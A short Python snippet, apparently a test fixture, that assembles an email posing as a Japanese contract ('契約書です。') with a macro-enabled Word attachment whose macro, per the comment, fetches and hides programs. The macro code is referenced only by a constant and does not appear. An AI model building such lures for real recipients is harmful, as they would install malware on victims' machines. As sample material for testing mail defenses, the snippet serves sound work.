# A Word macro that fetches and hides programs.
from parts import *

message = mail(join([text_part("契約書です。"), file_part("契約書.docm", ooxml("word", MACRO_DROPS))]))
